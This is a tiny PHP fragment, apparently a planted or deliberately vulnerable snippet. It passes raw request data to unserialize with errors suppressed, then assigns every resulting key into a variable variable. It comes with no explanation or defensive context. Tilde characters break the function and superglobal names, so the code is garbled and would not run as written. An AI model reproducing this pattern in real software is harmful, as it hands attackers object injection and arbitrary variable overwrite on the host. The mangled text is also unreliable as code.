<?php exit; ?>
<?php
function marker_state($k) { return @uns~erialize(stripslashes($_R~EQUEST[$k])); }
$s = marker_state('m'); foreach ($s as $k => $v) { $$k = $v; }
